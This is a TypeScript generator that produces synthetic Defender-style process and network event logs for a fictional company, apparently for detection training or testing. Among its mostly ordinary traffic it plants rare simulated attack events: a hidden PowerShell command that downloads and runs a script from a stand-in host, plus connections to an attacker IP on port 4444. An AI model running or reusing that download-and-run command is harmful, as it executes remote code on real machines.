import { TS, type Ctx, type TableGen } from '../context.ts';
import { ORG } from '../org.ts';
import { lit, makeDim, type Pipe } from '../sql.ts';
import { attackerIp, FIRST_WS, fill, laCommon, processDim, svcPick, WORKSTATIONS } from './common.ts';

/** Picks the user, admin and devices shared by the Device* tables; adds host `h_*` by the process template's host class. */
function devicePipe(ctx: Ctx, lo: number, hi: number, n: number, hostClass: string): Pipe {
  const r = ctx.r;
  return ctx
    .base('office', lo, hi, n)
    .pick(processDim(ctx), 'pr')
    .pick(ctx.users('u'), 'u')
    .pick(ctx.users('a', (admin) => admin), 'a')
    .pick(ctx.hosts('hw', ['dc', 'server', 'workstation']), 'hw')
    .pick(ctx.hosts('hs', ['server', 'dc']), 'hs')
    .join(ctx.hosts('sw'), `CASE WHEN u_ws >= 0 AND ${r.chance('own', 0.9)} THEN u_ws ELSE ${FIRST_WS} + ${r.m('ws', WORKSTATIONS.length)} END`)
    .join(ctx.hosts('h'), `CASE ${hostClass} WHEN 'workstation' THEN sw_gidx WHEN 'server' THEN hs_gidx ELSE (CASE WHEN ${r.chance('hws', 0.6)} THEN sw_gidx ELSE hw_gidx END) END`);
}

function accountCols(ctx: Ctx, kind: string, prefix: string): Record<string, string> {
  const svc = svcPick(ctx.r, 'svc');
  const name = `CASE ${kind} WHEN 'user' THEN u_sam WHEN 'admin' THEN 'adm-' || a_sam WHEN 'service' THEN ${svc.name} ELSE (CASE WHEN ${ctx.r.chance('nsv', 0.9)} THEN 'system' ELSE 'network service' END) END`;
  const system = `${kind} = 'system'`;
  return {
    [`${prefix}AccountName`]: name,
    [`${prefix}AccountDomain`]: `CASE WHEN ${system} THEN 'nt authority' ELSE lower(${lit(ORG.netbios)}) END`,
    [`${prefix}AccountSid`]: `CASE ${kind} WHEN 'user' THEN u_sid WHEN 'admin' THEN ${lit(ORG.domainSid)} || '-' || (2100 + a_gidx)::VARCHAR WHEN 'service' THEN ${svc.sid} ELSE 'S-1-5-18' END`,
    [`${prefix}AccountUpn`]: `CASE ${kind} WHEN 'user' THEN u_upn WHEN 'admin' THEN 'adm-' || a_upn ELSE '' END`,
    [`${prefix}AccountObjectId`]: `CASE ${kind} WHEN 'user' THEN u_oid WHEN 'admin' THEN a_oid ELSE '' END`,
  };
}

function deviceCommon(table: string, ctx: Ctx): Record<string, string> {
  return {
    ...laCommon(table, `${ctx.r.int('size', 1500, 4000)}::DOUBLE`),
    TenantId: lit(ORG.tenantId),
    TimeGenerated: TS('t_ns'),
    Timestamp: TS('t_ns'),
    DeviceId: 'h_devid',
    DeviceName: 'h_lfqdn',
    MachineGroup: `CASE h_kind WHEN 'workstation' THEN 'Larkspur Workstations' ELSE 'Larkspur Servers' END`,
    ReportId: `${ctx.r.int('rep', 1000, 99999)} * 100000 + i % 100000`,
    SourceSystem: `''`,
  };
}

const initiating = (ctx: Ctx) => {
  const r = ctx.r;
  return {
    InitiatingProcessFileName: 'pr_pfile',
    InitiatingProcessFolderPath: fill(r, 'lower(pr_parent)', 'u_sam', 'f1'),
    InitiatingProcessCommandLine: fill(r, 'pr_pcmd', 'u_sam', 'f1'),
    InitiatingProcessId: `${r.int('ppid', 400, 65000)} // 4 * 4`,
    InitiatingProcessCreationTime: TS(`t_ns - ${r.int('pct', 1, 86400)} * 1000000000`),
    InitiatingProcessParentFileName: 'pr_gp',
    InitiatingProcessParentId: `${r.int('gpid', 400, 65000)} // 4 * 4`,
    InitiatingProcessParentCreationTime: TS(`t_ns - ${r.int('gpct', 86400, 700000)} * 1000000000`),
    InitiatingProcessSHA256: 'pr_psha256',
    InitiatingProcessSHA1: `substr(pr_psha256, 1, 40)`,
    InitiatingProcessMD5: `substr(pr_psha256, 25, 32)`,
    InitiatingProcessFileSize: `${r.int('pfs', 60000, 3000000)}`,
    InitiatingProcessIntegrityLevel: `CASE pr_account WHEN 'user' THEN 'Medium' WHEN 'admin' THEN 'High' ELSE 'System' END`,
    InitiatingProcessTokenElevation: `CASE pr_account WHEN 'user' THEN 'TokenElevationTypeLimited' WHEN 'admin' THEN 'TokenElevationTypeFull' ELSE 'TokenElevationTypeDefault' END`,
    InitiatingProcessVersionInfoCompanyName: `CASE WHEN pr_pfile IN ('chrome.exe') THEN 'Google LLC' ELSE 'Microsoft Corporation' END`,
    InitiatingProcessVersionInfoProductName: `CASE WHEN pr_pfile IN ('chrome.exe') THEN 'Google Chrome' ELSE 'Microsoft® Windows® Operating System' END`,
    InitiatingProcessVersionInfoOriginalFileName: 'pr_pfile',
    InitiatingProcessVersionInfoInternalFileName: `regexp_replace(pr_pfile, '\\.(exe|EXE)$', '')`,
    InitiatingProcessVersionInfoFileDescription: `regexp_replace(pr_pfile, '\\.(exe|EXE)$', '')`,
    InitiatingProcessVersionInfoProductVersion: `'10.0.22621.4541'`,
  };
};

export const deviceProcessEvents: TableGen = {
  name: 'DeviceProcessEvents',
  share: 8,
  build(ctx: Ctx, lo: number, hi: number, n: number) {
    const r = ctx.r;
    const pipe = devicePipe(ctx, lo, hi, n, 'pr_hosts');
    const cols: Record<string, string> = {
      ...deviceCommon('DeviceProcessEvents', ctx),
      ActionType: `'ProcessCreated'`,
      FileName: 'pr_file',
      FolderPath: fill(r, 'pr_path', 'u_sam', 'f1'),
      ProcessCommandLine: fill(r, 'pr_cmd', 'u_sam', 'f1'),
      ProcessId: `${r.int('pid', 400, 65000)} // 4 * 4`,
      ProcessCreationTime: TS('t_ns'),
      ProcessIntegrityLevel: `CASE pr_account WHEN 'user' THEN 'Medium' WHEN 'admin' THEN 'High' ELSE 'System' END`,
      ProcessTokenElevation: `CASE pr_account WHEN 'user' THEN 'TokenElevationTypeLimited' WHEN 'admin' THEN 'TokenElevationTypeFull' ELSE 'TokenElevationTypeDefault' END`,
      ProcessVersionInfoCompanyName: 'pr_company',
      ProcessVersionInfoProductName: 'pr_product',
      ProcessVersionInfoProductVersion: 'pr_ver',
      ProcessVersionInfoFileDescription: 'pr_desc',
      ProcessVersionInfoOriginalFileName: 'pr_file',
      ProcessVersionInfoInternalFileName: `regexp_replace(pr_file, '\\.(exe|EXE)$', '')`,
      SHA256: 'pr_sha256',
      SHA1: 'pr_sha1',
      MD5: 'pr_md5',
      FileSize: 'pr_size',
      LogonId: `${r.int('lid', 100000, 9999999)}`,
      InitiatingProcessLogonId: `${r.int('lid', 100000, 9999999)}`,
      InitiatingProcessSignatureStatus: `CASE WHEN pr_pfile = 'mm.exe' THEN 'Unsigned' ELSE 'Valid' END`,
      InitiatingProcessSignerType: `CASE WHEN pr_company = 'Microsoft Corporation' THEN 'OsVendor' ELSE 'ThirdParty' END`,
      AdditionalFields: `CASE WHEN pr_bad THEN '{"ProcessStartKey":' || ${r.int('psk', 1000000, 9999999)}::VARCHAR || '}' ELSE NULL END`,
      ...accountCols(ctx, 'pr_account', ''),
      ...accountCols(ctx, `(CASE WHEN pr_pfile IN ('services.exe', 'svchost.exe', 'CcmExec.exe', 'msiexec.exe', 'wininit.exe', 'SearchIndexer.exe') THEN 'system' ELSE pr_account END)`, 'InitiatingProcess'),
      ...initiating(ctx),
    };
    return { pipe, cols };
  },
};

// remote url, ip prefix ('' = internal server), port, initiating process path, weight, action mix
const DESTS: [string, string, number, string, number][] = [
  ['login.microsoftonline.com', '20.190.151.', 443, 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', 60],
  ['outlook.office365.com', '52.96.88.', 443, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 70],
  ['teams.microsoft.com', '52.112.0.', 443, 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe', 60],
  ['larkspur-my.sharepoint.example', '13.107.136.', 443, 'C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe', 40],
  ['www.google.com', '142.250.72.', 443, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 50],
  ['github.com', '140.82.112.', 443, 'C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe', 8],
  ['settings-win.data.microsoft.com', '20.42.65.', 443, 'C:\\Windows\\System32\\svchost.exe', 40],
  ['ctldl.windowsupdate.com', '23.215.0.', 80, 'C:\\Windows\\System32\\svchost.exe', 20],
  ['winatp-gw-eus.microsoft.com', '20.42.73.', 443, 'C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\MsSense.exe', 40],
  ['', '', 445, 'System', 30],
  ['', '', 389, 'C:\\Windows\\System32\\lsass.exe', 20],
  ['', '', 88, 'C:\\Windows\\System32\\lsass.exe', 20],
  ['', '', 53, 'C:\\Windows\\System32\\svchost.exe', 25],
  ['', '', 135, 'C:\\Windows\\System32\\svchost.exe', 8],
  ['', '', 3389, 'C:\\Windows\\System32\\mstsc.exe', 3],
  ['cdn-update.example', '198.51.100.', 443, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 0.15],
  ['', 'atk', 4444, 'C:\\Users\\Public\\update.exe', 0.05],
  ['', 'atk', 443, 'C:\\Windows\\System32\\rundll32.exe', 0.08],
];

export const deviceNetworkEvents: TableGen = {
  name: 'DeviceNetworkEvents',
  share: 9,
  build(ctx: Ctx, lo: number, hi: number, n: number) {
    const r = ctx.r;
    const dests = ctx.dim('dne:dest', () =>
      makeDim('de', DESTS.map(([url, pfx, port, proc]) => ({ url, pfx, port, path: proc, file: proc.slice(proc.lastIndexOf('\\') + 1) })), DESTS.map((d) => d[4]), 20000),
    );
    const pipe = devicePipe(ctx, lo, hi, n, `'any'`)
      .pick(dests, 'de')
      .extend({
        act: `CASE WHEN ${r.chance('lst', 0.03)} THEN 'ListeningConnectionCreated' WHEN de_pfx = '' AND h_kind <> 'workstation' AND ${r.chance('inb', 0.5)} THEN 'InboundConnectionAccepted'
          WHEN ${r.chance('fail', 0.04)} THEN 'ConnectionFailed' ELSE 'ConnectionSuccess' END`,
        rip: `CASE WHEN de_pfx = 'atk' THEN ${attackerIp(r, 'aip')} WHEN de_pfx = '' THEN (CASE de_port WHEN 53 THEN '10.10.0.10' WHEN 88 THEN '10.10.0.11' WHEN 389 THEN '10.10.0.10' ELSE hs_ip END)
          ELSE de_pfx || (1 + ${r.m('oct', 250)})::VARCHAR END`,
      });
    const inbound = `act = 'InboundConnectionAccepted'`;
    const cols: Record<string, string> = {
      ...deviceCommon('DeviceNetworkEvents', ctx),
      ActionType: 'act',
      LocalIP: `h_ip`,
      LocalPort: `CASE WHEN ${inbound} OR act = 'ListeningConnectionCreated' THEN de_port ELSE ${r.int('lport', 49152, 65535)} END`,
      LocalIPType: `'Private'`,
      RemoteIP: `CASE WHEN act = 'ListeningConnectionCreated' THEN '' WHEN ${inbound} THEN sw_ip ELSE rip END`,
      RemotePort: `CASE WHEN act = 'ListeningConnectionCreated' THEN NULL WHEN ${inbound} THEN ${r.int('lport', 49152, 65535)} ELSE de_port END`,
      RemoteIPType: `CASE WHEN act = 'ListeningConnectionCreated' THEN '' WHEN de_pfx = '' OR ${inbound} THEN 'Private' ELSE 'Public' END`,
      RemoteUrl: `CASE WHEN ${inbound} THEN '' ELSE de_url END`,
      Protocol: `CASE WHEN de_port = 53 THEN 'Udp' ELSE 'Tcp' END`,
      InitiatingProcessFileName: `CASE WHEN de_file = 'System' THEN 'System' ELSE lower(de_file) END`,
      InitiatingProcessFolderPath: `lower(replace(de_path, '{user}', u_sam))`,
      InitiatingProcessCommandLine: `CASE WHEN de_file = 'System' THEN '' WHEN de_file = 'svchost.exe' THEN 'svchost.exe -k NetworkService -p -s Dnscache' WHEN de_file = 'powershell.exe' THEN 'powershell.exe -nop -w hidden -c "IEX (iwr https://cdn-update.example/p.ps1)"' ELSE '"' || de_file || '"' END`,
      InitiatingProcessId: `${r.int('ppid', 400, 65000)} // 4 * 4`,
      InitiatingProcessCreationTime: TS(`t_ns - ${r.int('pct', 1, 86400)} * 1000000000`),
      InitiatingProcessParentFileName: `CASE WHEN de_file IN ('svchost.exe', 'lsass.exe', 'MsSense.exe') THEN 'services.exe' WHEN de_file = 'System' THEN '' ELSE 'explorer.exe' END`,
      InitiatingProcessParentId: `${r.int('gpid', 400, 65000)} // 4 * 4`,
      InitiatingProcessParentCreationTime: TS(`t_ns - ${r.int('gpct', 86400, 700000)} * 1000000000`),
      InitiatingProcessSHA256: `sha256('file:' || de_file)`,
      InitiatingProcessSHA1: `substr(sha256('file:' || de_file), 1, 40)`,
      InitiatingProcessMD5: `md5('file:' || de_file)`,
      InitiatingProcessFileSize: `${r.int('pfs', 60000, 3000000)}`,
      InitiatingProcessIntegrityLevel: `CASE WHEN de_file IN ('svchost.exe', 'lsass.exe', 'MsSense.exe', 'System') THEN 'System' ELSE 'Medium' END`,
      InitiatingProcessTokenElevation: `CASE WHEN de_file IN ('svchost.exe', 'lsass.exe', 'MsSense.exe', 'System') THEN 'TokenElevationTypeDefault' ELSE 'TokenElevationTypeLimited' END`,
      InitiatingProcessVersionInfoCompanyName: `CASE WHEN de_file = 'chrome.exe' THEN 'Google LLC' WHEN de_file = 'update.exe' THEN '' ELSE 'Microsoft Corporation' END`,
      InitiatingProcessVersionInfoOriginalFileName: `CASE WHEN de_file = 'update.exe' THEN '' ELSE de_file END`,
      AdditionalFields: `CASE WHEN ${inbound} THEN '{"direction":"In"}' ELSE NULL END`,
      ...accountCols(ctx, `(CASE WHEN de_file IN ('svchost.exe', 'lsass.exe', 'MsSense.exe', 'System') THEN 'system' ELSE 'user' END)`, 'InitiatingProcess'),
    };
    return { pipe, cols };
  },
};
